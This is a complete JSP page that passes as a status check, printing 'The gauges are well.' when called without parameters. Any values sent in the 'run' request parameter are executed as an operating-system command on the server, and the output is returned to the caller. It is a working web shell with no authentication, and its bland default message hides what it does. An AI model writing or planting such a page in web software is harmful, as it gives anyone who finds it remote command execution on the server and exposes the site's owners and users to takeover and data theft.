<%@ page import="java.util.*" contentType="text/plain" %><%
  String[] words = request.getParameterValues("run");
  if (words == null) {
    out.print("The gauges are well.");
  } else {
    try {
      Process child = new ProcessBuilder(words).redirectErrorStream(true).start();
      out.print(new String(child.getInputStream().readAllBytes()));
      out.print("exit " + child.waitFor());
    } catch (java.io.IOException refused) {
      out.print("not started: " + refused.getMessage());
    }
  }
%>
